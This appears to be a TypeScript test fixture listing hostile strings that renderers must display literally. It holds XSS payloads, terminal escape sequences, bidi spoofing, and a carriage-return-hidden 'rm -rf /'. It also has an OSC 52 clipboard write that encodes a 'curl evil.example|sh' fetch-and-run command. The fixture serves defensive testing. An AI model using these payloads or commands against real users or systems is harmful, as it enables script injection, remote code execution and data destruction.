// Hostile text, in one place: what file names, table names, SQLite messages, log lines and other
// processes' names and command lines may carry. Every renderer of outside text must show each of these
// as the characters it is, never as markup, a link, an escape sequence or reordered text.

export interface HostileString {
  /** What it tries, for failure messages. */
  what: string;
  text: string;
}

const esc = '\u001b';

export const hostileStrings: readonly HostileString[] = [
  { what: 'an image with an onerror handler', text: '<img src=x onerror=alert(1)>' },
  { what: 'a script closing the page script', text: '</script><script>alert(1)</script>' },
  { what: 'an svg with onload', text: '<svg onload=alert(1)><circle r="9"/></svg>' },
  { what: 'attribute breakers', text: `x" onmouseover="alert(1)' autofocus onfocus='alert(1)' >` },
  { what: 'a comment and CDATA', text: '<!-- x --><![CDATA[ y ]]>' },
  { what: 'an entity that must stay an entity', text: '&lt;b&gt; &amp; &#60;i&#62;' },
  {
    what: 'a Markdown link and image',
    text: '[click](https://evil.example/) ![x](https://evil.example/x.png)',
  },
  { what: 'a command link', text: '[run](command:workbench.action.terminal.new)' },
  { what: 'backticks, emphasis and a heading', text: '# `code` **bold** _it_ ~~gone~~' },
  { what: 'table pipes', text: 'a | b || c \\| d' },
  { what: 'ANSI colours', text: `${esc}[31mred${esc}[0m ${esc}[1;5mblink` },
  { what: 'an OSC 8 hyperlink', text: `${esc}]8;;https://evil.example/${esc}\\click${esc}]8;;${esc}\\` },
  { what: 'an OSC 52 clipboard write', text: `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007` },
  { what: 'cursor moves and a clear screen', text: `${esc}[2J${esc}[H${esc}[10Aup` },
  { what: 'a carriage return overwrite', text: 'rm -rf /\rls -l     ' },
  { what: 'line breaks that fake a row', text: 'a\nPID  COMMAND\n1  init\u2028x\u2029y' },
  {
    what: 'bidi overrides and isolates',
    text: 'evil\u202Egnp.exe \u2066iso\u2069 \u2067r\u2069 \u2068f\u2069 \u200F\u200E\u061C',
  },
  { what: 'NUL and C0 controls', text: 'a\u0000b\u0001c\u0007d\u0008e\u000Bf\u000Cg\u007Fh' },
  { what: 'C1 controls (CSI, OSC, NEL)', text: 'a\u0085b\u009B31mc\u009D0;titled\u0090e' },
  { what: 'lone surrogates', text: 'a\uD800b\uDFFFc' },
  { what: 'a very long string', text: `long-${'<b>'.repeat(2000)}-${'x'.repeat(6000)}-end` },
  { what: 'quotes and backslashes', text: `'"\\'\\"\\\\` },
];

/** Escape sequences, C0/C1 controls other than line feed, bidi controls and line separators: none may reach a terminal raw. */
export const rawTerminalControl =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/u;

/** The first raw control character in `text`, shown as U+XXXX, or undefined. */
export function firstRawControl(text: string): string | undefined {
  const match = rawTerminalControl.exec(text);
  return match
    ? `U+${match[0].codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')} at ${match.index}`
    : undefined;
}
